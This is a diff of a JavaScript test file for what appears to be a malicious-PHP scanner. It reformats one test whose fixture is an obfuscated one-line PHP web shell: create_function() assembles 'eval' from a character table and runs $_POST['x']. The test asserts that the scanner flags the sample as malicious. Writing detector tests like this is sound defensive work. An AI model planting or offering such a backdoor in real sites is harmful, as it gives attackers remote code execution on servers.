@@ -57,7 +57,8 @@ test('source stored backwards; a relay forwarding the whole request to another s
 });
 
 test('create_function body spelled from a literal character table folds and is analyzed', () => {
-  const src = "<?php\n$a9 = array('6','n',')','_','g','c','4','f','v','$','s','o','(','t','r','b',';','l','e','z','d','a','i');\n$b = create_function('$'.'v', $a9[18].$a9[8].$a9[21].$a9[17].$a9[12].$a9[9].$a9[8].$a9[2].$a9[16]);\n$b($_POST['x']);\n";
+  const src =
+    "<?php\n$a9 = array('6','n',')','_','g','c','4','f','v','$','s','o','(','t','r','b',';','l','e','z','d','a','i');\n$b = create_function('$'.'v', $a9[18].$a9[8].$a9[21].$a9[17].$a9[12].$a9[9].$a9[8].$a9[2].$a9[16]);\n$b($_POST['x']);\n";
   const f = findingOf('t.php', src);
   assert.equal(f?.verdict, 'malicious');
   assert.ok(reasons(f).includes('create_function() runs code spelled from constant pieces'));
